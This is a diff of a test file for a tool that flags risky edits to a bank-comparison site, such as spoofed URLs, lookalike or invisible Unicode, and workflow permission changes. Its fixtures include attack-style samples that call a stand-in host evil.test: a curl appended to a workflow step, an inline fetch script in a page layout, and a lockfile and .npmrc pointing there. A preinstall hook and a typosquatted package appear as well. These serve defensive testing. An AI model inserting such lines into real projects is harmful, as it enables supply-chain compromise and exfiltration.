@@ -53,17 +53,17 @@ const both =
   (text) =>
     edits.reduce((edited, edit) => edit(edited), text);
 
-const edit = (path: string, old: string, now: string): Edits => ({ [path]: replacing(old, now) });
+const change = (path: string, old: string, now: string): Edits => ({ [path]: replacing(old, now) });
 const append = (path: string, text: string): Edits => ({ [path]: (before) => before + text });
 const moved = (from: string, to: string, edit: TextEdit = String): Edits => ({ [to]: { from, text: edit(BASE[from] ?? '') } });
 const everyRecord = (edit: TextEdit): Edits =>
   Object.fromEntries(Object.keys(BASE).flatMap((path) => (/banks\/\w+\/index\.mdx$/.test(path) ? [[path, edit]] : [])));
 
 /** Edits of the record of First, of the address of its only source, and of the text before a sentence of its page. */
-const inFirst = (old: string, now: string) => edit(FIRST, old, now);
+const inFirst = (old: string, now: string) => change(FIRST, old, now);
 const readAt = (url: string) => inFirst('https://first.example/fees', url);
 const beforeText = (text: string) => inFirst('You can send', `${text} You can send`);
-const linkTo = (url: string) => edit(SAVINGS, '(/banks/first/#security)', `(${url})`);
+const linkTo = (url: string) => change(SAVINGS, '(/banks/first/#security)', `(${url})`);
 
 const NEW_LIMIT = replacing('value: $3,000\n      source: listed', 'value: $10,000\n      source: listed');
 const OUTSIDE_LINK = replacing('You can send up to', 'See [the terms](https://terms.example/a). You can send up to');
@@ -72,7 +72,7 @@ const READ_AGAIN = replacing('consulted: 2026-11-20', 'consulted: 2026-11-23');
 
 /**
  * A proposal, and texts that its report contains, each after its heading: `Top` is above all headings, `…` skips any text.
- * `no Facts` is a report without this heading.
+ * `no Facts, Texts` is a report without these headings.
  */
 const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
   // Addresses
@@ -98,7 +98,7 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
   [readAt('https://first.example@evil.test/fees'), 'Danger: a user name in front of the host'],
   [readAt('https://192.0.2.1/fees'), 'Danger: an IP address'],
   [
-    edit(SOURCES, 'https://regulator.example/notice', 'https://notice.test/'),
+    change(SOURCES, 'https://regulator.example/notice', 'https://notice.test/'),
     'Danger: new host: `https://notice.test',
     'Sources: regulator…used by',
   ],
@@ -107,7 +107,7 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
     'Danger: becomes known: `app1e.com` ⚠ **looks like apple.com**',
     'Danger: becomes known: `evil.ca`',
   ],
-  [edit(HOSTS, '- apps.apple.com\n', ''), 'Danger: known host: `apps.apple.com` is gone'],
+  [change(HOSTS, '- apps.apple.com\n', ''), 'Danger: known host: `apps.apple.com` is gone'],
   [
     inFirst('website: https://first.example/', 'website: https://royal.example/'),
     'Danger: another host: `https://royal…not among the hosts of First until now',
@@ -126,18 +126,19 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
   // Characters
   [inFirst('name: First Bank', 'name: First B\u0430nk'), 'Danger: another script: `B⟨U+0430⟩nk`'],
   [inFirst('$3,000 a day', '$3,0\u200b00 a day'), 'Danger: invisible characters: `$3,0⟨U+200B⟩00`'],
-  [edit(TERMS, 'Nobody may', 'Nobody \u202emay'), 'Danger: U+202E'],
+  [change(TERMS, 'Nobody may', 'Nobody \u202emay'), 'Danger: U+202E'],
   [{ [TERMS]: replacing('Nobody', 'Nobody\u{E0041}\u{E0042}') }, 'Danger: U+E0041'],
   [
     inFirst('publisher: First Bank', 'publisher: First Ba\u0301nk'),
     'Danger: made of parts: `Ba⟨U+0301⟩nk`',
     'Sources: now First Ba⟨U+0301⟩nk…the same address under another publisher',
   ],
-  [edit(TERMS, 'Nobody', '\u0430\u0441\u0430'), 'Danger: another script: `⟨U+0430⟩⟨U+0441⟩⟨U+0430⟩`'],
+  [change(TERMS, 'Nobody', '\u0430\u0441\u0430'), 'Danger: another script: `⟨U+0430⟩⟨U+0441⟩⟨U+0430⟩`'],
   [inFirst('up to $3,000', 'up to $3,\uFF10\uFF10\uFF10'), 'Danger: another script'],
   [{ 'src/content/banks/f\u0456rst.mdx': BASE[FIRST] }, 'Danger: another script: `src/content/banks/f⟨U+0456⟩rst.mdx`'],
+  // With a zero byte git shows no text.
   [append(CHECK, '# \0\n'), 'Top: + # ⟨U+0000⟩', 'Danger: that cannot be shown as text: `.github'],
-  [edit('checks/check.ts', '[a, b]', '[a, \u2066b]'), 'Danger: U+2066'],
+  [change('checks/check.ts', '[a, b]', '[a, \u2066b]'), 'Danger: U+2066'],
   // Telephone numbers, insurers, code in texts
   ...['1-800-555-0199', '1 (800) 555-0199', '18005550199', '1\u2011800\u2011555\u20110199', '1-800-BANKING', '+44 20 7946 0000'].map(
     (number) => [beforeText(`Call ${number}.`), `Danger: telephone number: \`${number}\``] as const,
@@ -150,13 +151,13 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
   [
     inFirst('value: CDIC', 'value: Trust us'),
     'Danger: insurer: `Trust us`, was `CDIC`',
-    'Facts: Deposit insurance: was CDIC, now Trust us…its source and date did not',
+    'Facts: Deposit insurance: was CDIC, now Trust us…the value changed, its source and date did not…on `/banks/first/`',
+    'no Texts',
   ],
   [append(SAVINGS, "\nimport x from 'node:fs'\n"), 'Danger: code in a text: `import x', 'Top: does not pass the content check'],
   [append(SAVINGS, CUT), 'Danger: line too long to be read…compared to its 2,000th character'],
   [append(SAVINGS, '\n<iframe src="x"></iframe>\n'), 'Danger: code in a text: `<iframe'],
   // Values and their evidence
-  [{ [FIRST]: NEW_LIMIT }, 'Facts: was $3,000, now $10,000…the value changed, its source and date did not…on `/banks/first/`', 'no Texts'],
   [
     { [FIRST]: both(READ_AGAIN, replacing('value: $3,000\n      source: listed', 'value: $3,500\n      source: first-fees')) },
     'Facts: now $3,500…+ Fees, `first.example`, official',
@@ -209,22 +210,22 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
     'Texts: How it works: You can send up to <del>**$3,000**</del> <ins>**$5,000**</ins> a day …in no field of the record: $5,000',
   ],
   [inFirst('title: First Bank online', 'title: CDIC'), 'Texts: page.title…CDIC'],
-  [edit('src/data/shared-facts.yaml', 'Up to $1.50', 'Up to $2.00'), 'Facts: Every institution…was Up to $1.50, now Up to $2.00'],
+  [change('src/data/shared-facts.yaml', 'Up to $1.50', 'Up to $2.00'), 'Facts: Every institution…was Up to $1.50, now Up to $2.00'],
   [everyRecord(replacing('value: CDIC', 'value: CDIC, up to $1')), 'Facts: 3 institutions…Deposit insurance'],
   [everyRecord(replacing('## Mobile app\n\nText.', '## Mobile app\n\nWords.')), 'Texts: 3 pages…Mobile app'],
   [
-    edit('src/data/capabilities.yaml', "banknote: '5'\n    weight: 1", "banknote: '5'\n    weight: 4"),
+    change('src/data/capabilities.yaml', "banknote: '5'\n    weight: 1", "banknote: '5'\n    weight: 4"),
     'Facts: Score',
     'Texts: groups.0.weight',
   ],
-  // Sources and days
-  [edit(SOURCES, 'kind: third-party', 'kind: official'), 'Sources: kind was third-party, now official…now counts as official'],
+  // Sources and dates
+  [change(SOURCES, 'kind: third-party', 'kind: official'), 'Sources: kind was third-party, now official…now counts as official'],
   [inFirst('publisher: First Bank', 'publisher: Regulator'), 'Sources: publisher was First Bank, now Regulator'],
   [
     everyRecord(READ_AGAIN),
     'Only read again: 3 sources consulted again, no value changed: consulted was 2026-11-20, now 2026-11-23, stored copy, not opened live',
   ],
-  [edit(SOURCES, 'published: 2025-08-28', 'published: 2026-08-28'), 'Sources: another date, and not read again'],
+  [change(SOURCES, 'published: 2025-08-28', 'published: 2026-08-28'), 'Sources: another date, and not read again'],
   [inFirst('faq:', 'lastVerified: 2026-11-24\nfaq:'), 'Facts: Last verified…1 of its 1 sources were not read since'],
   [
     { [SOURCES]: (text) => text.slice(0, text.indexOf('- id: regulator')) },
@@ -246,17 +247,9 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
     'Facts: was $3,000, now $10,000',
   ],
   [{ [FIRST]: (text) => text.replaceAll('\n', '\r\n') }, 'Styles and code: Content and data (1)'],
-  [
-    {
-      [FIRST]: both(
-        replacing('reach:\n  value: [ON]', 'reach: &a\n  value: [ON]'),
-        replacing('languages:\n  value: [English]\n  source: first-fees', 'languages: *a'),
-      ),
-    },
-    'Top: it has a YAML alias',
-  ],
   [inFirst('type: bank', 'type: bank\nname: Other'), 'Top: cannot be read in head'],
   [{ [HARBOUR]: undefined }, 'Pages: Removed: **Harbour**'],
+  [{ [FIRST]: '---\nfees: &a {}\nlimits: *a\n---\n' }, 'Top: it has a YAML alias'],
   // The other files are still compared.
   ...['---\nname: "First\n---\n', 'No frontmatter.\n', '---\nfees: &a {}\nlimits: *a\n---\n'].map(
     (text) =>
@@ -265,9 +258,7 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
         'Top: src/content/banks/first/index.mdx cannot be read in head and is not compared',
         'Top: does not pass the content check',
         'Facts: now Up to $2.00',
-        'no Pages',
-        'no Sources',
-        'no Texts',
+        'no Pages, Sources, Texts',
       ] as const,
   ),
   // Readers see nothing of a draft.
@@ -275,18 +266,14 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
     { 'src/content/credit-unions/new.mdx': NEW_UNION.replace('---\n', '---\ndraft: true\n') },
     'Top: src/content/credit-unions/new.mdx is a draft',
     'Danger: xn--nw-eka.example',
-    'no Facts',
-    'no Sources',
-    'no Pages',
-    'no Texts',
-    'no Styles and code',
+    'no Facts, Sources, Pages, Texts, Styles and code',
   ],
   [{ 'src/content/credit-unions/new.mdx': NEW_UNION }, 'Danger: xn--nw-eka.example', 'Pages: Added: **New**'],
   [inFirst('name: First Bank', 'name: First Bank # so it says'), 'Styles and code: Content and data (1)'],
   [inFirst('name: First Bank', 'name: First Bank # check: allow style: it is right'), 'Danger: exception from the content check'],
-  // What runs
+  // Code and settings
   [
-    edit(CHECK, 'contents: read', 'contents: write-all'),
+    change(CHECK, 'contents: read', 'contents: write-all'),
     'Top: **Workflows and settings on GitHub changed (1)**',
     'Top: + contents: write-all',
   ],
@@ -295,6 +282,7 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
     'Top: Workflows and settings on GitHub changed',
     'Top: + contents: write',
   ],
+  // The same line is in another job already.
   [{ [CHECK]: (text) => text.replace('    steps:', '    permissions:\n      contents: read\n    steps:') }, 'Top: + contents: read'],
   [
     { '.github/workflows/new.yml': `on: push\n${Array.from({ length: 30 }, (_, at) => `# ${at}\n`).join('')}permissions: write-all\n` },
@@ -306,11 +294,12 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
     'Top: + - run: npm test ; curl https://evil.test/',
     'Danger: evil.test',
   ],
-  [{ 'src/history/facts.ts': 'export const factsOf = () => new Map();\n' }, 'Top: Tools and checks changed'],
-  [{ 'scripts/diff/run.ts': 'console.log("Nothing differs");' }, 'Top: **Tools and checks changed (1)**: `scripts/diff/run.ts`'],
-  [edit('checks/check.ts', '[a, b]', '[a]'), 'Top: **Tools and checks changed'],
   [
-    edit(LAYOUT, '<slot />', '<slot /><script is:inline>fetch("https://evil.test/")</script>'),
+    { 'checks/check.ts': 'export const RULES = [];', 'scripts/diff/run.ts': '', 'src/history/facts.ts': '' },
+    'Top: **Tools and checks changed (3)**: `checks/check.ts`, `scripts/diff/run.ts`, `src/history/facts.ts`',
+  ],
+  [
+    change(LAYOUT, '<slot />', '<slot /><script is:inline>fetch("https://evil.test/")</script>'),
     'Top: **Code that runs in pages changed',
     'Top: + …<script is:inline',
     'Danger: evil.test',
@@ -325,12 +314,12 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
     { 'package-lock.json': lockOf('7.0.0', { integrity: 'sha512-x', resolved: 'https://evil.test/a.tgz' }) },
     'Top: comes from https://evil.test…the same version with other content',
   ],
-  [edit('package.json', '"scripts": {', '"scripts": { "preinstall": "node x.js",'), 'Top: scripts.preinstall: nothing → node x.js'],
+  [change('package.json', '"scripts": {', '"scripts": { "preinstall": "node x.js",'), 'Top: scripts.preinstall: nothing → node x.js'],
   [
-    edit('package-lock.json', '/astro/-/astro-', '/astr0/-/astr0-'),
+    change('package-lock.json', '/astro/-/astro-', '/astr0/-/astr0-'),
     'Top: astro: 7.0.0 → 7.0.0, comes from https://registry.npmjs.org/astr0',
   ],
-  [edit('package.json', '{ "scripts"', '{ "overrides": { "astro": "1.0.0" }, "scripts"'), 'Top: overrides.astro: nothing → 1.0.0'],
+  [change('package.json', '{ "scripts"', '{ "overrides": { "astro": "1.0.0" }, "scripts"'), 'Top: overrides.astro: nothing → 1.0.0'],
   [{ '.npmrc': 'registry=https://evil.test/\n' }, 'Top: Packages', 'Top: + registry=https://evil.test', 'Danger: evil.test'],
   [{ 'src/content/.gitattributes': '*.mdx -diff\n' }, 'Top: Git settings', 'Top: + *.mdx -diff'],
   [
@@ -350,10 +339,10 @@ const CASES: readonly (readonly [edits: Edits, ...expected: string[]])[] = [
     'Danger: cannot be shown as text: `public/icon.png`',
   ],
   [{ 'public/robots.txt': 'User-agent: *\nDisallow: /\n' }, 'Top: Files served unchanged', 'Top: + Disallow: /'],
-  [edit('public/_headers', 'DENY', 'SAMEORIGIN'), 'Top: Hosts and their headers changed', 'Top: SAMEORIGIN'],
+  [change('public/_headers', 'DENY', 'SAMEORIGIN'), 'Top: Hosts and their headers changed', 'Top: SAMEORIGIN'],
   [{ 'public/x.html': '<script>1</script>' }, 'Top: Files served unchanged changed…public/x.html'],
-  [edit('src/styles/colours.css', 'black', 'red'), 'Styles and code: Styles and images (1): `src/styles/colours.css`'],
-  [edit('README.md', 'Guide', 'Guides'), 'Styles and code: Documentation (1)'],
+  [change('src/styles/colours.css', 'black', 'red'), 'Styles and code: Styles and images (1): `src/styles/colours.css`'],
+  [change('README.md', 'Guide', 'Guides'), 'Styles and code: Documentation (1)'],
 ];
 
 /** Compares the small guide and its code with an edited copy, as git would read them. */
@@ -383,10 +372,12 @@ test.each(CASES.map(([edits, ...expected]) => ({ title: expected.join('; '), edi
       return `${heading}: ${line}`;
     });
   for (const text of expected) {
-    const [, absent] = /^no (.+)/.exec(text) ?? [];
-    const pattern = escapePattern(text).replace(': ', ': .*').replaceAll('…', '.*');
-    if (absent) expect(lines).not.toContain(`${absent}: ### ${absent}`);
-    else expect(lines).toContainEqual(expect.stringMatching(new RegExp(`^${pattern}`)));
+    if (text.startsWith('no ')) {
+      for (const absent of text.slice('no '.length).split(', ')) expect(lines).not.toContain(`${absent}: ### ${absent}`);
+    } else {
+      const pattern = escapePattern(text).replace(': ', ': .*').replaceAll('…', '.*');
+      expect(lines).toContainEqual(expect.stringMatching(new RegExp(`^${pattern}`)));
+    }
   }
 });
 
